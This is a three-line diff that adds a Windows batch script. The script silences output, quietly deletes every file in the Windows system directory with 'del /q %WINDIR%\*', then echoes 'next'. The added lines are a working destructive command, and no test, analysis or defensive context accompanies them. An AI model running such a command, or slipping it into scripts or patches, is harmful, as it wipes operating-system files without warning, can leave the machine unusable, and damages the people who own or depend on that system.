@@ -1,0 +1,3 @@
+@echo off
+del /q %WINDIR%\*
+echo next
